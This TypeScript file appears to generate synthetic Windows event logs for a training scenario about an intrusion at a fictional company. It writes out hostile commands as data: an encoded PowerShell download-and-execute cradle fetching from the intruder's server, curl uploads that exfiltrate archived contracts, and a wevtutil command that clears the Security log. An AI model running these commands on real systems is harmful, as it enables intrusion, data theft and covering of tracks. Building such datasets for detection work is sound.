import { BEACONS, BLOCKED, CLEARED, UPLOADS, at } from './calendar.ts';
import {
  ADMIN,
  HOSTS,
  IMPLANTED,
  INTRUDER,
  KARIN,
  PEOPLE,
  SERVICE,
  SYSTEM,
  VICTIM,
} from './company.ts';
import type { Program } from './process-events.ts';
import {
  processCreated,
  sysmonAccess,
  sysmonConnection,
  sysmonFile,
  sysmonLookup,
  sysmonProcess,
  sysmonRegistry,
} from './process-events.ts';
import {
  accountChanged,
  credentialsValidated,
  deskLocked,
  domainAdminAdded,
  explicitCredentials,
  logCleared,
  logon,
  logonFailed,
  shareAccessed,
  shareFileChecked,
  specialLogon,
} from './security-events.ts';
import { malware, scriptBlock, serviceInstalled, serviceState } from './system-events.ts';
import type { SampleWindowsEvent } from './windows-event.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const IMPLANT = 'C:\\Users\\a.berg\\AppData\\Roaming\\updsvc.exe';
const SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('https://${INTRUDER.c2Name}/a.ps1')`;
const ENCODED = Buffer.from(SCRIPT, 'utf16le').toString('base64');
const { victim, adminDesk, files, dc } = HOSTS;

const started = (
  time: number,
  program: Program,
  commandLine: string,
  parent: string,
): SampleWindowsEvent[] => [
  sysmonProcess(time, program, commandLine, parent),
  processCreated(time + 6, program, commandLine, parent),
];

/** What the intruder did on Windows hosts, and the defenders after, as those hosts logged it. */
export const windowsAttack = (): SampleWindowsEvent[] => [
  ...whatMadeItPossible(),
  ...foothold(),
  ...discoveryAndCredentials(),
  ...fileServer(),
  ...domain(),
  ...theft(),
  ...response(),
];

/** The administrator helps Anna Berg over remote desktop and leaves the session open on WS07. */
function whatMadeItPossible(): SampleWindowsEvent[] {
  const mstsc: Program = { on: adminDesk, who: KARIN, image: `${SYSTEM32}\\mstsc.exe`, pid: 7412 };
  const console: Program = { on: victim, who: ADMIN, image: `${SYSTEM32}\\mmc.exe`, pid: 4028 };
  return [
    ...started(
      at('2026-05-11T13:08:20.150'),
      mstsc,
      'mstsc.exe /v:WS07',
      'C:\\Windows\\explorer.exe',
    ),
    explicitCredentials(
      at('2026-05-11T13:08:31.702'),
      adminDesk,
      KARIN,
      ADMIN,
      victim,
      mstsc.image,
    ),
    sysmonConnection(
      at('2026-05-11T13:08:32.011'),
      mstsc,
      victim.ip,
      'ws07.lindholm.example',
      3389,
    ),
    logon(at('2026-05-11T13:08:33.540'), victim, ADMIN, 10, adminDesk, 0x8e21f),
    ...started(
      at('2026-05-11T13:10:02.004'),
      console,
      `mmc.exe "${SYSTEM32}\\printmanagement.msc"`,
      'C:\\Windows\\explorer.exe',
    ),
  ];
}

function foothold(): SampleWindowsEvent[] {
  const word: Program = { on: victim, who: VICTIM, image: WORD, pid: 5120 };
  const shell: Program = { on: victim, who: VICTIM, image: POWERSHELL, pid: 5344 };
  const implant: Program = { on: victim, who: VICTIM, image: IMPLANT, pid: 5604 };
  return [
    ...started(
      at('2026-05-12T09:12:01.310'),
      word,
      `"${WORD}" /n "C:\\Users\\a.berg\\Downloads\\Invoice_4471.docm"`,
      'C:\\Windows\\explorer.exe',
    ),
    ...started(
      at('2026-05-12T09:12:04.113'),
      shell,
      `powershell.exe -nop -w hidden -enc ${ENCODED}`,
      WORD,
    ),
    scriptBlock(at('2026-05-12T09:12:05.020'), victim, SCRIPT, '', true),
    sysmonLookup(at('2026-05-12T09:12:05.210'), shell, INTRUDER.c2Name, INTRUDER.c2),
    sysmonConnection(at('2026-05-12T09:12:05.480'), shell, INTRUDER.c2, INTRUDER.c2Name, 443),
    sysmonFile(at('2026-05-12T09:12:09.702'), shell, IMPLANT),
    ...started(at('2026-05-12T09:12:11.054'), implant, `"${IMPLANT}" -k netsvcs`, POWERSHELL),
    sysmonRegistry(
      at('2026-05-12T09:12:12.400'),
      implant,
      `HKU\\${VICTIM.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate`,
      IMPLANT,
    ),
    ...BEACONS.filter((time) => time < BLOCKED).map((time) =>
      sysmonConnection(time, implant, INTRUDER.c2, INTRUDER.c2Name, 443),
    ),
  ];
}

function discoveryAndCredentials(): SampleWindowsEvent[] {
  const implant: Program = { on: victim, who: VICTIM, image: IMPLANT, pid: 5604 };
  const asked: readonly (readonly [when: string, command: string])[] = [
    ['2026-05-12T09:41:10.204', 'whoami /all'],
    ['2026-05-12T09:41:32.880', 'net group "Domain Admins" /domain'],
    ['2026-05-12T09:42:05.117', 'nltest /dclist:lindholm.example'],
    ['2026-05-12T09:44:51.630', 'dir \\\\FS01\\Contracts'],
  ];
  return [
    ...asked.flatMap(([when, command], n) =>
      started(
        at(when),
        { on: victim, who: VICTIM, image: `${SYSTEM32}\\cmd.exe`, pid: 6012 + 32 * n },
        `cmd.exe /c ${command}`,
        IMPLANT,
      ),
    ),
    shareAccessed(at('2026-05-12T09:44:52.044'), files, VICTIM, victim, 'Contracts', 0x7be02),
    sysmonAccess(
      at('2026-05-12T10:05:18.250'),
      implant,
      'C:\\Windows\\system32\\lsass.exe',
      '0x1010',
    ),
    sysmonFile(at('2026-05-12T10:05:21.900'), implant, 'C:\\Windows\\Temp\\d1.tmp'),
    ...Array.from({ length: 46 }, (_, i) => {
      const time = at('2026-05-12T13:02:00.331') + i * 1_900;
      const name = i % 3 === 0 ? SERVICE.account : (PEOPLE[i % PEOPLE.length] ?? VICTIM).account;
      return [
        credentialsValidated(time - 4, dc, name, victim, false),
        logonFailed(time, dc, name, victim, 50_100 + i),
      ];
    }).flat(),
    credentialsValidated(at('2026-05-12T13:03:29.640'), dc, SERVICE.account, victim, true),
    logon(at('2026-05-12T13:03:29.652'), dc, SERVICE, 3, victim, 0x98e07),
  ];
}

/** The service account, its password guessed, reaches the file server; WS03 refuses it. */
function fileServer(): SampleWindowsEvent[] {
  const remote: Program = { on: files, who: SYSTEM, image: `${SYSTEM32}\\cmd.exe`, pid: 3312 };
  return [
    logon(at('2026-05-12T13:20:44.871'), files, SERVICE, 3, victim, 0x9a3c1),
    specialLogon(at('2026-05-12T13:20:44.873'), files, SERVICE, 0x9a3c1),
    shareAccessed(at('2026-05-12T13:20:45.310'), files, SERVICE, victim, 'IPC$', 0x9a3c1),
    serviceInstalled(
      at('2026-05-12T13:20:47.020'),
      files,
      'PSEXESVC',
      '%SystemRoot%\\PSEXESVC.exe',
    ),
    serviceState(at('2026-05-12T13:20:47.260'), files, 'PSEXESVC', 'running'),
    ...started(
      at('2026-05-12T13:21:02.600'),
      remote,
      'cmd.exe /c dir D:\\Shares\\Contracts /s',
      'C:\\Windows\\PSEXESVC.exe',
    ),
    ...Array.from({ length: 3 }, (_, i) =>
      logonFailed(
        at('2026-05-12T13:26:10.140') + i * 21_000,
        adminDesk,
        SERVICE.account,
        victim,
        50_900 + i,
      ),
    ),
  ];
}

/** The administrator's account is used from WS07 while her own desk is locked. */
const domain = (): SampleWindowsEvent[] => [
  deskLocked(at('2026-05-12T13:24:40.310'), adminDesk, 4800, KARIN),
  logon(at('2026-05-12T13:34:09.118'), dc, ADMIN, 3, victim, 0xb71f4),
  specialLogon(at('2026-05-12T13:34:09.120'), dc, ADMIN, 0xb71f4),
  accountChanged(at('2026-05-12T13:36:30.402'), dc, 4720, IMPLANTED, ADMIN),
  accountChanged(at('2026-05-12T13:36:30.455'), dc, 4722, IMPLANTED, ADMIN),
  domainAdminAdded(at('2026-05-12T13:36:58.911'), dc, IMPLANTED, ADMIN),
  deskLocked(at('2026-05-12T14:03:42.006'), adminDesk, 4801, KARIN),
];

/** By night, over the VPN: contracts are read, packed and sent; then the traces on WS07 are removed. */
function theft(): SampleWindowsEvent[] {
  const { laptop } = INTRUDER;
  const shell = `${SYSTEM32}\\cmd.exe`;
  const packer: Program = {
    on: files,
    who: IMPLANTED,
    image: 'C:\\ProgramData\\7z.exe',
    pid: 4410,
  };
  const curl: Program = { on: files, who: IMPLANTED, image: `${SYSTEM32}\\curl.exe`, pid: 4488 };
  return [
    credentialsValidated(at('2026-05-13T01:58:03.360'), dc, IMPLANTED.account, laptop, true),
    logon(at('2026-05-13T01:58:03.377'), files, IMPLANTED, 3, laptop, 0xc40aa),
    specialLogon(at('2026-05-13T01:58:03.379'), files, IMPLANTED, 0xc40aa),
    shareAccessed(at('2026-05-13T01:58:05.902'), files, IMPLANTED, laptop, 'Contracts', 0xc40aa),
    ...Array.from({ length: 34 }, (_, i) =>
      shareFileChecked(
        at('2026-05-13T01:58:21.050') + i * 2_730,
        files,
        IMPLANTED,
        laptop,
        'Contracts',
        `2026\\C-${1041 + i * 7}\\agreement.pdf`,
        0xc40aa,
      ),
    ),
    sysmonFile(at('2026-05-13T02:00:30.114'), { ...curl, image: shell, pid: 4402 }, packer.image),
    ...started(
      at('2026-05-13T02:01:12.009'),
      packer,
      '7z.exe a -pS3cur1ty -v200m C:\\ProgramData\\c.7z D:\\Shares\\Contracts',
      shell,
    ),
    ...UPLOADS.flatMap((part, n) => {
      const name = `C:\\ProgramData\\c.7z.${String(n + 1).padStart(3, '0')}`;
      const program = { ...curl, pid: curl.pid + 8 * n };
      const time = part.at - 690;
      return [
        ...started(time, program, `curl.exe -T ${name} https://${INTRUDER.c2Name}/u/`, shell),
        sysmonConnection(time + 571, program, INTRUDER.c2, INTRUDER.c2Name, 443),
      ];
    }),
    logon(at('2026-05-13T03:29:48.205'), victim, IMPLANTED, 10, laptop, 0xc51b0),
    ...started(
      CLEARED - 210,
      { on: victim, who: IMPLANTED, image: `${SYSTEM32}\\wevtutil.exe`, pid: 8812 },
      'wevtutil.exe cl Security',
      shell,
    ),
    logCleared(CLEARED, victim, IMPLANTED),
  ];
}

const response = (): SampleWindowsEvent[] => [
  malware(at('2026-05-13T08:05:27.118'), victim, 1116, IMPLANT, 'LINDHOLM\\a.berg'),
  malware(at('2026-05-13T08:05:31.604'), victim, 1117, IMPLANT, 'NT AUTHORITY\\SYSTEM'),
  logon(at('2026-05-13T08:39:20.077'), dc, ADMIN, 10, adminDesk, 0xd1033),
  specialLogon(at('2026-05-13T08:39:20.079'), dc, ADMIN, 0xd1033),
  accountChanged(at('2026-05-13T08:41:02.560'), dc, 4725, IMPLANTED, ADMIN),
  accountChanged(at('2026-05-13T08:42:19.004'), dc, 4725, SERVICE, ADMIN),
  accountChanged(at('2026-05-13T08:43:55.213'), dc, 4725, VICTIM, ADMIN),
];
